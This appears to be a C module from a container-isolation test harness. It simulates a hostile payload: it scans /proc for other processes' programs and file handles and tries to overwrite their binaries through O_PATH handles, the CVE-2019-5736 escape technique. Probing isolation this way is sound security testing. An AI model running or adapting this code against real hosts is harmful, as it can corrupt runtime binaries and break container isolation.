// What a hostile payload does: look for a runtime's processes and for anything of the host in them.
#define _GNU_SOURCE
#include "commands.h"
#include "record.h"

#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <time.h>
#include <unistd.h>

enum { most = 64 };

struct caught {
  char link[256];  // what the descriptor's own link says
  bool written;
};

static int known(struct caught *list, int count, const char *link) {
  for (int i = 0; i < count; i++) {
    if (strcmp(list[i].link, link) == 0) return i;
  }
  return -1;
}

/// Tries to write one byte through a handle on another program, as CVE-2019-5736 does: the handle is kept
/// while the program's own process goes away, then opened again for writing.
static bool overwrite(int handle) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", handle);
  for (int attempt = 0; attempt < 50; attempt++) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd >= 0) {
      bool written = pwrite(fd, "X", 1, 0) == 1;
      close(fd);
      return written;
    }
    if (errno != ETXTBSY) return false;
    nanosleep(&(struct timespec){0, 2000000}, NULL);
  }
  return false;
}

static void remember(struct caught *list, int *count, const char *path, bool write_too) {
  int handle = open(path, O_PATH | O_CLOEXEC);
  if (handle < 0) return;
  char self[64], link[256];
  snprintf(self, sizeof self, "/proc/self/fd/%d", handle);
  ssize_t length = readlink(self, link, sizeof link - 1);
  if (length > 0 && *count < most) {
    link[length] = 0;
    if (known(list, *count, link) < 0) {
      struct caught *entry = &list[(*count)++];
      strcpy(entry->link, link);
      entry->written = write_too && overwrite(handle);
    }
  }
  close(handle);
}

/// Looks at every other process again and again until SIGTERM: its program, and each of its descriptors that
/// can be opened and is a folder or lies on a file system this process does not see at `/`.
static void hunt(int argc, char **argv) {
  (void)argc, (void)argv;
  struct caught programs[most], handles[most];
  int program_count = 0, handle_count = 0;
  struct stat own;
  if (stat("/proc/self/exe", &own) != 0) return;
  sigset_t stop;
  sigemptyset(&stop);
  sigaddset(&stop, SIGTERM);
  sigprocmask(SIG_BLOCK, &stop, NULL);
  record_open("hunting");
  record_close();
  long rounds = 0;
  struct timespec none = {0, 0};
  while (sigtimedwait(&stop, NULL, &none) < 0) {
    rounds++;
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    while (proc && (entry = readdir(proc))) {
      if (!isdigit((unsigned char)entry->d_name[0]) || atoi(entry->d_name) == getpid()) continue;
      char path[600];
      struct stat info;
      snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
      if (stat(path, &info) != 0 || (info.st_dev == own.st_dev && info.st_ino == own.st_ino)) continue;
      remember(programs, &program_count, path, true);
      snprintf(path, sizeof path, "/proc/%s/cwd", entry->d_name);
      remember(handles, &handle_count, path, false);
      snprintf(path, sizeof path, "/proc/%s/fd", entry->d_name);
      DIR *folder = opendir(path);
      struct dirent *one;
      while (folder && (one = readdir(folder))) {
        snprintf(path, sizeof path, "/proc/%s/fd/%s", entry->d_name, one->d_name);
        if (stat(path, &info) == 0 && (S_ISDIR(info.st_mode) || S_ISREG(info.st_mode)))
          remember(handles, &handle_count, path, false);
      }
      if (folder) closedir(folder);
    }
    if (proc) closedir(proc);
  }
  record_open("hunt");
  put_number("rounds", rounds);
  list_open("programs");
  for (int i = 0; i < program_count; i++) {
    object_open(NULL);
    put_text("link", programs[i].link);
    put_bool("written", programs[i].written);
    object_close();
  }
  list_close();
  list_open("handles");
  for (int i = 0; i < handle_count; i++) put_text(NULL, handles[i].link);
  list_close();
  record_close();
}

static void overwrite_program(int argc, char **argv) {
  (void)argc;
  int handle = open(argv[1], O_PATH | O_CLOEXEC);
  int error = handle < 0 ? errno : 0;
  record_open("overwrite");
  put_text("path", argv[1]);
  put_errno("errno", error);
  put_bool("written", handle >= 0 && overwrite(handle));
  record_close();
  if (handle >= 0) close(handle);
}

const struct command attack_commands[] = {
    {"hunt", "", "until SIGTERM: catch programs and handles of others", 0, hunt},
    {"overwrite", "PATH", "try to write a byte through an O_PATH handle", 1, overwrite_program},
    {0},
};
